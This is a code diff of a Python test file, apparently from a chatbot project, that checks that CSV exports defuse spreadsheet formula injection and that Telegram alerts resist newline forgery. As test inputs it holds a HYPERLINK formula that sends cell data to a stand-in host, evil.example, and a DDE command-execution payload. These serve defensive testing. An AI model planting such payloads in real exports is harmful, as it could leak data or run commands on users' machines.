@@ -7,7 +7,6 @@ import csv
 import html
 import io
 import re
-import time
 
 import pytest
 
@@ -16,20 +15,11 @@ from replica.notify.alerts import to_telegram_html, to_telegram_plain
 from replica.notify.delivery import OutboxSender
 from replica.notify.telegram import TelegramClient
 from replica.owner_bot import ANSWER_USAGE, FORGET_USAGE, OwnerBot
-from tests.conftest import run_app
+from tests.conftest import run_app, wait_until
 from tests.fakes.openai_server import call, say
 from tests.fakes.telegram_server import visible_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
-
-
-def wait_until(predicate, timeout=10.0):
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        if predicate():
-            return True
-        time.sleep(0.02)
-    return False
 
 
 def export(data_dir, what):
@@ -49,7 +39,9 @@ def test_every_export_is_safe_to_open_in_a_spreadsheet(tmp_path):
     store.record_question("=1+1", Alert("question", "Unanswered question", (("Question", "=1+1"),), "s1"))
     store.learn_answer(1, "@cmd|' /C calc'!A0")
     store.close()
-    cells = [cell for what in ("leads", "questions", "answers") for row in export(tmp_path / "data", what) for cell in row]
+    cells = [
+        cell for what in ("leads", "questions", "answers") for row in export(tmp_path / "data", what) for cell in row
+    ]
     risky = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert risky == []
     for original in (FORMULA, "+1 555 0100 call me", "@SUM(A1:A9)", "-2+3", "\tTabbed", "=1+1", "@cmd|' /C calc'!A0"):
@@ -64,7 +56,9 @@ def without_quotes(message_html: str) -> str:
 def test_a_visitor_cannot_forge_lines_of_the_alert(visitor, fake_openai, fake_telegram):
     forged = "Call me\nEmail: ceo@bank.example\nConversation: #999"
     fake_openai.script(
-        call(("gather_user_details", {"email": "ada@example.org", "notes": forged, "name": "Ada\nEmail: x@evil.example"})),
+        call(
+            ("gather_user_details", {"email": "ada@example.org", "notes": forged, "name": "Ada\nEmail: x@evil.example"})
+        ),
         say("Thanks!"),
     )
     visitor().predict("ada@example.org", api_name="/chat")
@@ -79,7 +73,11 @@ def test_a_visitor_cannot_forge_lines_of_the_alert(visitor, fake_openai, fake_te
 
 def test_the_plain_text_fallback_cannot_be_forged_either():
     alert = Alert(
-        "question", "Unanswered question", (("Question", "Why?\nEmail: ceo@bank.example\r\nx"),), "s1", quoted=("Question",)
+        "question",
+        "Unanswered question",
+        (("Question", "Why?\nEmail: ceo@bank.example\r\nx"),),
+        "s1",
+        quoted=("Question",),
     )
     lines = to_telegram_plain(alert).splitlines()
     assert lines[:2] == ["Unanswered question", "Question:"]
